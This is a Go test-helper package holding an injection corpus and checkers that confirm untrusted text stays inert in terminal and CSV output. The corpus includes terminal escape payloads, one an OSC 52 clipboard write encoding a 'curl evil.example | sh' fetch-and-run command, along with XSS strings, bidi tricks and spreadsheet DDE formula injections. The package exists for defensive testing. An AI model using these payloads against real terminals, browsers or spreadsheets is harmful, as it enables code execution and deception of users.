// Package safetexttest holds the injection corpus and the checks that tests
// of every nbfleet output use to show untrusted text stays inert: put each
// corpus entry wherever cloud or roster text goes (a name, a description, a
// fail_reason, an error message, a URL, a label), write the output, and
// check it with the function of its format.
package safetexttest

import (
	"encoding/csv"
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Corpus is text an attacker can put in a notebook's name, description or
// fail_reason, or a student in a roster cell: terminal escape sequences,
// fake log lines, bidi tricks, Markdown and HTML injection, mentions,
// spreadsheet formulas and invalid UTF-8, with some ordinary text.
var Corpus = []string{
	"ml101-alice",
	"Zoë O'Brien",
	"学生-张伟",
	"\x1bc",         // terminal reset (RIS)
	"\x1b[2J\x1b[H", // clear screen, cursor home
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",        // OSC 52 clipboard write
	"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", // OSC 8 link
	"\x9b31m",                  // 8-bit CSI, a lone byte (invalid UTF-8)
	"\u009b31m",                // C1 CSI, encoded in UTF-8
	"\u009d0;title\u009c",      // C1 OSC … ST
	"\u0090qpayload\u009c",     // C1 DCS
	"ok\rnbfleet: apply done",  // carriage return over the line
	"ok\nnbfleet: error: fake", // a fake log line
	"ok\r\n| x | y |",          // a fake Markdown row
	"x|y\r\n|z|",               // Markdown row injection
	"evil\u202etxt.exe",        // bidi override (Trojan source)
	"\u2066admin\u2069",        // bidi isolates
	"a\u200bb\ufeffc\u2060d",   // zero width space, BOM, word joiner
	"line\u2028sep\u2029para",  // Unicode line and paragraph separators
	"tag\U000E0041\U000E007F",  // tag characters
	"del\x7f",                  // DEL
	"nul\x00byte",              // NUL
	"tab\there",                // tab
	"[click](https://evil.example)",
	"![img](https://evil.example/x.png)",
	"<https://evil.example>",
	"https://evil.example/path?q=1",
	"www.evil.example",
	"javascript:alert(1)",
	"<img src=x onerror=alert(1)>",
	"<script>alert(1)</script>",
	"\"><svg onload=alert(1)>",
	"&lt;b&gt; &amp; &#x3c;",
	"**bold** _em_ ~~strike~~ `code` ``two``",
	"`",
	"a ` b `` c",
	"```fenced```",
	"@octocat and @org/team",
	"fixes #123 and owner/repo#45 and GH-7",
	":+1: :shipit:",
	`back\slash \| \\| \`,
	"=HYPERLINK(\"https://evil.example\",\"click\")",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"  =1+1",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
	"",
	"   ",
	"\xff\xfe invalid \xc3",
	"\xef\xbf\xbd literal replacement character",
}

// TerminalDocument returns an error naming the first character of doc, a
// whole multi-line output (a plan, a table, a log), that a terminal could
// act on or that hides or reorders text: any control character but
// newline and tab, DEL, a C1 control, a Unicode format character, U+2028,
// U+2029 or a byte that is not UTF-8.
func TerminalDocument(doc string) error {
	for i := 0; i < len(doc); {
		r, n := utf8.DecodeRuneInString(doc[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			return fmt.Errorf("byte %d: invalid UTF-8 %#x in %q", i, doc[i], around(doc, i))
		case r == '\n' || r == '\t':
		case unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029':
			return fmt.Errorf("byte %d: %U in %q", i, r, around(doc, i))
		}
		i += n
	}
	return nil
}

// CSVDocument reads doc as CSV and returns an error unless it parses, every
// record is one line, every cell passes TerminalDocument with no newline
// or tab, and no cell could run as a spreadsheet formula. It returns the
// records.
func CSVDocument(doc string) ([][]string, error) {
	recs, err := csv.NewReader(strings.NewReader(doc)).ReadAll()
	if err != nil {
		return nil, err
	}
	if lines := strings.Count(doc, "\n"); lines != len(recs) {
		return recs, fmt.Errorf("%d records on %d lines: a cell spans lines", len(recs), lines)
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if err := TerminalDocument(cell); err != nil || strings.ContainsAny(cell, "\n\t") {
				return recs, fmt.Errorf("record %d cell %d %q: not inert (%v)", i+1, j+1, cell, err)
			}
			lead := strings.TrimLeftFunc(cell, unicode.IsSpace)
			if r, _ := utf8.DecodeRuneInString(lead); lead != "" && strings.ContainsRune("=+-@＝＋－＠", r) {
				return recs, fmt.Errorf("record %d cell %d %q: a spreadsheet would run it as a formula", i+1, j+1, cell)
			}
		}
	}
	return recs, nil
}

func around(s string, i int) string {
	lo, hi := max(0, i-20), min(len(s), i+20)
	return s[lo:hi]
}
